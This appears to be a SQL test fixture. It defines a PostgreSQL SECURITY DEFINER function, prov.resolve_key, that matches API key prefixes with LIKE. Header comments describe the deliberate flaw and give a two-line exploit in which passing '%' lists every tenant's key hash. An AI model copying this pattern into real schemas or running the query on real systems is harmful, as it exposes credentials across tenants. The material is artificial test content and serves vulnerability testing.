-- The key lookup uses LIKE and runs as the owner, so a percent sign lists the key hashes of all makers.
-- about: resolve_key, api_keys
-- as: hf_nodeforge_app
-- exploit: SET nodeforge.tenant = '0a000000-0000-4000-8000-00000000000a';
-- exploit: SELECT * FROM prov.resolve_key('%');
-- shows: Road-secret hash

-- Called before the tenant is known: the prefix of the key finds the hash to compare with.
CREATE FUNCTION prov.resolve_key(p_prefix text, OUT tenant_id uuid, OUT key_hash text)
RETURNS SETOF record
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = prov, pg_temp
AS $$
  SELECT k.tenant_id, k.key_hash FROM api_keys k WHERE k.prefix LIKE p_prefix;
$$;
REVOKE ALL ON FUNCTION prov.resolve_key(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION prov.resolve_key(text) TO hf_nodeforge_app;
